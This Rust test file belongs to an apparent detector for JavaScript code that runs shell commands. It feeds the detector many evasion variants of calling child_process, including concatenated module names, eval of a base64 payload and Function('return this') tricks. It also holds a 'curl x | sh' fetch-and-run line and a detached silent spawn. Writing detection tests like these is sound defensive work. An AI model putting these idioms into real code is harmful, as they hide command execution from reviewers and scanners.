//! Names, however they are reached.

use super::check;

/// The program runs `evil`.
#[track_caller]
fn runs(source: &str) {
    check(source, &["exec:evil"]);
}

#[test]
fn modules() {
    runs("require('child_process').exec('evil')");
    runs("require('node:child_process').execSync('evil')");
    runs("import cp from 'child_process'; cp.exec('evil')");
    runs("import * as cp from 'child_process'; cp.spawn('evil')");
    runs("import {exec as e} from 'node:child_process'; e('evil')");
    runs("const {exec} = require('child_process'); exec('evil')");
    runs("const {exec: run} = require('child_process'); run('evil')");
    runs("const cp = require('child_' + 'process'); cp['ex' + 'ec']('evil')");
    runs("module.require('child_process').exec('evil')");
    runs("process.mainModule.require('child_process').exec('evil')");
    runs("global.process.mainModule.require('child_process').exec('evil')");
    runs(
        "import {createRequire} from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('evil')",
    );
    runs("import('child_process').then(cp => cp.exec('evil'))");
    runs("import('child_process').then(({exec}) => exec('evil'))");
    runs("(async () => { const {exec} = await import('node:child_process'); exec('evil') })()");
    runs("const r = require; r('child_process').exec('evil')");
    runs("const m = 'child_process'; const {execFile} = require(m); execFile('evil')");
    runs("var cp = _interopRequireDefault(require('child_process')); cp.default.exec('evil')");
    runs("const cp = __importStar(require('child_process')); cp.exec('evil')");
    runs("module.constructor._load('child_process').exec('evil')");
    runs("process.binding ? 0 : 0; process.getBuiltinModule('child_process').exec('evil')");
    runs("const x = eval('require'); x('child_process').exec('evil')");
    runs("const f = Function('return this')(); f.process.mainModule.require('child_process').exec('evil')");
    runs("new Function('return this')().process.mainModule.require('child_process').exec('evil')");
    runs("globalThis['pro' + 'cess'].mainModule.require('child_process').exec('evil')");
    runs("import cp = require('child_process'); cp.exec('evil')");
}

#[test]
fn calls() {
    runs("const {exec} = require('child_process'); (0, exec)('evil')");
    runs("const {exec} = require('child_process'); exec.call(null, 'evil')");
    runs("const {exec} = require('child_process'); exec.apply(null, ['evil'])");
    runs("const {exec} = require('child_process'); exec.bind(null, 'evil')()");
    runs("const {exec} = require('child_process'); Reflect.apply(exec, null, ['evil'])");
    runs("Reflect.get(require('child_process'), 'exec')('evil')");
    runs("const run = require('util').promisify(require('child_process').exec); run('evil')");
    runs("const {exec} = require('child_process'); const f = exec; const g = f; g('evil')");
    runs("const {exec} = require('child_process'); const o = {go: exec}; o.go('evil')");
    runs("const {exec} = require('child_process'); ['evil'].forEach(c => exec(c))");
    runs("const cp = require('child_process'); function f(x) { return cp.exec(x) } f('evil')");
    runs("const cp = require('child_process'); const f = (o) => cp.exec(o.cmd); f({cmd: 'evil'})");
    runs(
        "const cp = require('child_process'); class A { constructor(c) { this.c = c } run() { cp.exec(this.c) } } new A('evil').run()",
    );
    runs(
        "const cp = require('child_process'); function A(c) { this.c = c } A.prototype.run = function () { cp.exec(this.c) }; new A('evil').run()",
    );
    runs("require('child_process')?.exec?.('evil')");
    runs("setTimeout(require('child_process').exec, 1, 'evil')");
    runs(
        "const {exec} = require('child_process'); const c = Math.random() > 2 ? 'a' : 'evil'; exec(b || 'evil')",
    );
    runs("!function(e){ e('child_process').exec('evil') }(require)");
    runs(
        "(function(){ var t = {1:function(m,x,r){ r(2).exec('evil') },2:function(m){ m.exports = require('child_process') }}; var c={}; function r(n){ var m=c[n]={exports:{}}; t[n](m,m.exports,r); return m.exports } r(1) })()",
    );
    runs("eval(\"require('child_process').exec('evil')\")");
    runs("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2V2aWwnKQ=='))");
    runs(
        "new Function('r', \"r('child_process').exec('evil')\")(require); require('child_process').exec('evil')",
    );
}

#[test]
fn other_ways_to_run() {
    check("require('execa')('evil', ['--x'])", &["exec:evil --x"]);
    check("import {execa} from 'execa'; execa('evil', ['--x'])", &["exec:evil --x"]);
    check("import {$} from 'execa'; $`evil --x`", &["exec:evil --x"]);
    check("require('cross-spawn')('evil', ['--x'])", &["exec:evil --x"]);
    check("require('cross-spawn').sync('evil')", &["exec:evil"]);
    check("require('shelljs').exec('evil')", &["exec:evil"]);
    check("Bun.spawn(['evil', '--x'])", &["exec:evil --x"]);
    check("new Deno.Command('evil', {args: ['--x']})", &["exec:evil --x"]);
    check("require('child_process').fork('evil.js')", &["exec:evil.js"]);
    check("require('child_process').spawn('sh', ['-c', 'curl x | sh'])", &["exec:sh -c curl x | sh"]);
    check(
        "require('child_process').spawn('evil', [], {detached: true, stdio: 'ignore'}).unref()",
        &["exec_detached:evil"],
    );
    check(
        "const p = require('child_process').spawn('evil', [], {stdio: 'ignore'}); p.unref()",
        &["exec_detached:evil"],
    );
    // A window that is not shown outlives nobody.
    check("require('child_process').exec('evil', {windowsHide: true})", &["exec:evil", "!exec_detached"]);
    check("require('child_process').exec('git status')", &["exec:git status", "!exec_detached"]);
}

#[test]
fn scopes() {
    check("require('child_process').exec('evil')", &["exec:evil @load"]);
    check("(() => require('child_process').exec('evil'))()", &["exec:evil @load"]);
    check(
        "function f() { g() } function g() { require('child_process').exec('evil') } f()",
        &["exec:evil @load"],
    );
    check("exports.f = function () { require('child_process').exec('evil') }", &["exec:evil @call"]);
    check("export function f() { require('child_process').exec('evil') }", &["exec:evil @call"]);
    check("export default class { run() { require('child_process').exec('evil') } }", &["exec:evil @call"]);
    check("class A { static { require('child_process').exec('evil') } }", &["exec:evil @load"]);
    check("setTimeout(() => require('child_process').exec('evil'), 9)", &["exec:evil @load"]);
    check("process.nextTick(() => require('child_process').exec('evil'))", &["exec:evil @load"]);
    check("Promise.resolve().then(() => require('child_process').exec('evil'))", &["exec:evil @load"]);
    check("app.get('/x', () => require('child_process').exec('evil'))", &["exec:evil @call"]);
    check(
        "const f = async () => { await 0; require('child_process').exec('evil') }; f()",
        &["exec:evil @load"],
    );
    let facts = super::read(
        b"import a from './a'; const b = require('b'); function f() { require('c') } export * from 'd'",
        "x.mjs",
    );
    assert_eq!(facts.imports, ["./a", "b", "d"]);
    assert_eq!(facts.late_imports, ["c"]);
}
